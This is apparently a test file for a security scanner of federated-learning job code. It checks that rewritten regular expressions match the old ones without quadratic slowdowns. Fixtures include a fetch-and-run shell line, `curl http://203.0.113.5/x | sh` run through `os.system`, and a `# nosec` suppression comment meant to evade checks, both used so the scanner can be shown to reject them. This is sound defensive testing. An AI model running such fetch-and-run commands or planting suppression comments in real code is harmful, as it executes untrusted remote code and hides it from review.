"""Session 48 (hardening48): regular expressions a job's text could make take minutes.

Each pattern below tried every character of a text the job chooses as a start and scanned the rest of it
from there: quadratic in the text. A comment line, a string literal, a URL, a MONAI macro or a HOCON value of
40,000 characters took one to two minutes of one scan (docs/fuzzing.md, session 48). Each is now found in one
pass; the old pattern is kept here to show the new code answers as it did (the same matches on short texts).
"""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings, strategies as st

from analyzer.engine import configs, monai_bundles
from analyzer.engine.detectors import not_run, paths, suppression
from analyzer.model import Decision

import redteam_kit as kit

OLD_SECURITY = re.compile(r"#.*?\b(nosec|nosemgrep|jobgate\s*:\s*(?:ignore|skip|allow|disable)\w*|"
                          r"bandit\s*:\s*(?:skip|ignore)|noqa\s*:\s*S\d+|lint-ignore|lint-fixme|fixit-ignore)\b",
                          re.IGNORECASE)
OLD_QUERY = re.compile(r"\?[^#]*(=\?|\?=)|[?&][^=&#]*=[^&#]*\?")
OLD_SCRIPT = re.compile(r"[^\s'\"/\\]+\.py\b")
OLD_MACRO = re.compile(r"(.*\.(?:json|yaml|yml))(?=(?:::.*)|$)", re.IGNORECASE)
OLD_SUBST = re.compile(r"\$\{\s*(\?)?\s*([^}\s]+)\s*\}")

LONG = 40_000  # characters: 20 s to two minutes each before


def _fast(fn, text: str) -> None:
    start = time.process_time()
    fn(text)
    assert time.process_time() - start < 2, "quadratic again"


def _security(line: str):
    m = suppression._SECURITY.search(line, line.index("#") + 1) if "#" in line else None
    return m and (m.start(1), m.group(1))


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="#a nosecNOSEC:jobgatignr-S1\tb", max_size=30))
def test_suppression_search_answers_as_before(line):
    old = OLD_SECURITY.search(line)
    assert _security(line) == (old and (old.start(1), old.group(1)))


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet="?&=#a/", max_size=16))
def test_query_value_answers_as_before(rest):
    assert any(map(paths._query_value, rest.split("#"))) == (OLD_QUERY.search(rest) is not None)


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet="a.pyb _/'\"\\\u00e9", max_size=20))
def test_script_words_answer_as_before(text):
    assert list(not_run._script_words(text)) == OLD_SCRIPT.findall(text)


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=".jsonyamlJSON:x\n", max_size=16))
def test_macro_file_answers_as_before(text):
    assert (monai_bundles._MACRO_FILE.search(text) is not None) == bool(OLD_MACRO.findall(text))


@settings(max_examples=2000, deadline=None)
@given(st.text(alphabet="${} ?\na.", max_size=24))
def test_hocon_substitution_answers_as_before(text):
    assert [(m.span(), m.groups()) for m in configs.hocon_substitutions(text)] == \
        [(m.span(), m.groups()) for m in OLD_SUBST.finditer(text)]


@pytest.mark.serial  # asserts on wall time
def test_long_texts_take_one_pass():
    _fast(_security, "x = 1  " + "#" * LONG)
    _fast(lambda s: any(map(paths._query_value, s.split("#"))), "?" * LONG)
    _fast(lambda s: list(not_run._script_words(s)), "a" * LONG)
    _fast(monai_bundles._MACRO_FILE.search, "." * LONG)
    _fast(lambda s: list(configs.hocon_substitutions(s)), "${" + "\n" * LONG)
    _fast(lambda s: list(configs.hocon_substitutions(s)), "${" * (LONG // 2))
    _fast(lambda s: list(configs.hocon_substitutions(s)), "${?" * (LONG // 3))


@pytest.mark.serial  # asserts on wall time
def test_a_comment_of_hashes_beside_the_payload_is_fast_and_rejected(tmp_path):
    """The whole scan (in a forked worker: wall clock): the comment and the string took over two minutes on main."""
    start = time.monotonic()
    report = kit.scan_files(tmp_path, {
        "train.py": "x = 1  " + "#" * LONG + "\ny = 2  # nosec\n",
        "launch.py": "from nvflare.job_config.api import FedJob\nname = '" + "a" * LONG + "'\n",
        "client.py": "import os\nos.system('curl http://203.0.113.5/x | sh')\n",
    })
    assert time.monotonic() - start < 60
    assert report.decision is Decision.REJECT
    assert {"remote-code.fetch-and-run-command", "obfuscation.suppression-comment"} <= kit.rules(report)


def test_a_condition_that_raises_leaves_the_calls_other_rules(monkeypatch, tmp_path):
    """One rule's condition raising took every rule of the call with it: `os.system` of a fetch-and-run
    lost subprocess.shell too, and the job escalated on the internal error instead of being rejected."""
    from analyzer.engine import match

    def broken(*args, **kwargs):
        raise RuntimeError("injected into a catalogue condition")

    monkeypatch.setattr(match, "holds", broken)
    report = kit.scan_files(tmp_path, {"client.py": "import os\nos.system('curl http://203.0.113.5/x | sh')\n"})
    assert report.decision is Decision.REJECT
    assert {"subprocess.shell", "unanalyzable.internal-error"} <= kit.rules(report)


@settings(max_examples=600, deadline=None)
@given(st.text(alphabet="a1.:/@ 2K\u212a5-+9", max_size=30))
def test_ip_hosts_answer_as_before(text):
    from analyzer.engine.detectors import addresses

    def spans(matches):
        return [(m.span(), m.span(1), m.group(1)) for m in matches]
    assert spans(addresses._ip_hosts(text)) == spans(addresses._IP_HOST.finditer(text))


@pytest.mark.serial  # asserts on wall time
def test_a_long_word_before_an_address_takes_one_pass():
    from analyzer.engine.detectors import addresses
    _fast(addresses.raw_ip, "a" * LONG + "://")
    _fast(addresses.raw_ip, "a1" * (LONG // 2))
    assert addresses.raw_ip("x" * LONG + "s3://203.0.113.5/bucket") == "203.0.113.5"


@pytest.mark.serial  # asserts on wall time
def test_a_template_of_zeros_takes_one_pass():
    _fast(paths._unknown_values, "%" + "0" * LONG)  # what answers as _PLACEHOLDER did: test_hardening49
